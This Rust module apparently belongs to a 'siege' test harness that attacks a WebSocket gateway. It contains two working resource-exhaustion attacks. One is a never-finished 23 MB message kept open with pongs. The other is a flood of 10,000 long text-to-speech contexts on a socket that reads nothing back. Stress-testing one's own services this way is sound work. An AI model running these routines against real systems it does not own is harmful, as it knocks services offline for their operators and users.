//! WebSockets whose message never ends, and those with contexts and texts without end.

use std::io;
use std::time::Duration;

use tokio::time::timeout;

use super::CLOSED;
use crate::siege::attack_table::Attacker;

/// Request to open a WebSocket, without its host.
pub(in crate::siege) const UPGRADE: &str = "upgrade: websocket\r\nconnection: Upgrade\r\nsec-websocket-version: 13\r\n\
                                            sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
/// Bytes of the unfinished message.
const UNFINISHED_BYTES: usize = 23 * 1024 * 1024;
/// Bytes of one write.
const PIECE_BYTES: usize = 64 * 1024;
/// Pause between two pongs.
const PONG_EVERY: Duration = Duration::from_secs(5);
/// First frame of a text message of several frames, masked; its length follows in eight bytes.
const UNFINISHED_FRAME: [u8; 2] = [0x01, 0xff];
/// Contexts that a caller begins on one socket.
const CONTEXTS: usize = 10_000;
/// Characters of the text of each context, in sentences.
const CONTEXT_CHARS: usize = 60_000;
/// First two bytes of a whole text message of up to 65,535 bytes, masked.
const TEXT_FRAME: [u8; 2] = [0x81, 0xfe];
/// Empty pong, masked by zeros.
const PONG: [u8; 6] = [0x8a, 0x80, 0, 0, 0, 0];

/// Opens a WebSocket, sends most of a message, and then pongs alone.
pub(in crate::siege) async fn unfinished(attacker: Attacker) -> io::Result<String> {
    let mut connection = attacker.connect(attacker.public).await?;
    let head = format!("GET /ws HTTP/1.1\r\nhost: {}\r\n{UPGRADE}\r\n", attacker.public);
    connection.send(head.as_bytes()).await?;
    let status = connection.answer().await?.status;
    if status != 101 {
        return Ok(status.to_string());
    }
    connection.send(&UNFINISHED_FRAME).await?;
    connection.send(&(UNFINISHED_BYTES as u64).to_be_bytes()).await?;
    connection.send(&[0; 4]).await?; // a mask of zeros leaves the payload as it is
    let piece = [b' '; PIECE_BYTES];
    for _ in 0..UNFINISHED_BYTES / PIECE_BYTES {
        connection.send(&piece).await?;
    }
    // The attack's end ends the loop, if the gateway does not.
    loop {
        if timeout(PONG_EVERY, connection.drain()).await.is_ok() {
            return Ok(CLOSED.to_owned());
        }
        connection.send(&PONG).await?;
    }
}

/// Opens a WebSocket with contexts, begins ten thousand of them with a long text each, and reads
/// nothing.
pub(in crate::siege) async fn contexts(attacker: Attacker) -> io::Result<String> {
    let mut connection = attacker.connect_narrow().await?;
    let text = "One more sentence. ".repeat(CONTEXT_CHARS / 19);
    let (path, messages): (_, fn(usize, &str) -> Vec<String>) = match attacker.round % 3 {
        0 => ("/v1/stream", |n, text| {
            vec![
                format!(r#"{{"type":"start","context_id":"{n}"}}"#),
                format!(r#"{{"type":"text","context_id":"{n}","text":"{text}"}}"#),
            ]
        }),
        1 => ("/v1/text-to-speech/alloy/multi-stream-input", |n, text| {
            vec![format!(r#"{{"context_id":"{n}","text":"{text}"}}"#)]
        }),
        _ => ("/tts/websocket", |n, text| {
            vec![format!(
                r#"{{"context_id":"{n}","transcript":"{text}","continue":true,"voice":{{"mode":"id","id":"alloy"}},"output_format":{{"container":"raw","encoding":"pcm_s16le","sample_rate":24000}}}}"#
            )]
        }),
    };
    let head = format!("GET {path} HTTP/1.1\r\nhost: {}\r\n{UPGRADE}\r\n", attacker.public);
    connection.send(head.as_bytes()).await?;
    let status = connection.answer().await?.status;
    if status != 101 {
        return Ok(status.to_string());
    }
    for number in 0..CONTEXTS {
        for message in messages(number, &text) {
            let length = (message.len() as u16).to_be_bytes();
            let frame = [&TEXT_FRAME[..], &length, &[0; 4], message.as_bytes()].concat();
            if connection.send(&frame).await.is_err() {
                return Ok(CLOSED.to_owned());
            }
        }
    }
    Ok("all sent".to_owned())
}
